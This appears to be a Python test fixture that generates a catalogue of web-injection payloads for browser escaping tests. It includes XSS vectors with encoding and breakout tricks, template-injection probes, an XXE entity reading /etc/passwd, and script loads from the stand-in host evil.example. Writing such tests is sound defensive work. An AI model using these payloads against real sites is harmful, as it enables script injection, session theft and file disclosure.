"""Texts that act on a page where they are not encoded, each in a way of its own: for `make browser`.

Every one tries to run `pwned()`, to load something, or to leave the element that it stands in.
"""

from collections.abc import Iterator

_RUN = "pwned()"
_AWAY = "https://evil.example/x"
# Elements that run a script by themselves, whatever stands round them.
_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_AWAY}></script>",
    f"<script/x>{_RUN}</script >",
    f"<<script>{_RUN}//<</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=`x`onerror={_RUN}>",
    f"<image href=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a href="javascript:{_RUN}"><text y=9>x</text></a></svg>',
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f'<math href="javascript:{_RUN}">x</math>',
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f'<embed src="javascript:{_RUN}">',
    f'<form action="javascript:{_RUN}"><button>x</button></form>',
    f'<base href="{_AWAY}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    f'<link rel="stylesheet" href="{_AWAY}">',
    f"<style>@import '{_AWAY}';</style>",
    f'<a href="javascript:{_RUN}">x</a>',
    f'<a href="java\tscript:{_RUN}">x</a>',
    f'<a href="&#106;avascript:{_RUN}">x</a>',
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<x contenteditable autofocus onfocus={_RUN}>y</x>",
    f"<xmp><img src=x onerror={_RUN}></xmp>",
    f"<plaintext><img src=x onerror={_RUN}>",
)
# What leaves the place where it stands, and then runs the same.
_WAYS_OUT = (
    '">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</style>", "</script>", "</textarea>", "</time>",
    "</a></h1>", "&quot;&gt;", '\\">', "\x00>",
)  # fmt: skip
_WITHIN = (
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f'" style="background:url({_AWAY})" x="',
    f"x onclick={_RUN} y",
    f'"}}</script><script>{_RUN}</script>',
    f'\\"}}];{_RUN};//',
    f"\u2028{_RUN}\u2029",
    f"'-{_RUN}-'",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    "{{ 7 * 7 }}",
    "{% include 'base.html.j2' %}",
    "{# a comment that ends nothing",
    "{{ config.__class__.__mro__ }}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "[[7*7]]",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "<![CDATA[<script>pwned()</script>]]>",
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\ufe64script\ufe65pwned()\ufe64/script\ufe65",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "<\u200bscript>pwned()</script>",
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=pwned()>",
    "webcal://evil.example/x.ics",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    "//evil.example/x",
    "https://example.org\\@evil.example/",
    "feed:javascript:pwned()",
    "blob:https://example.org/x",
    "view-source:https://example.org/",
)


def attacks() -> Iterator[str]:
    """Every one of them; with each way out the first element that runs."""
    yield from _ELEMENTS
    yield from (f"{way}{_ELEMENTS[0]}" for way in _WAYS_OUT)
    yield from _WITHIN
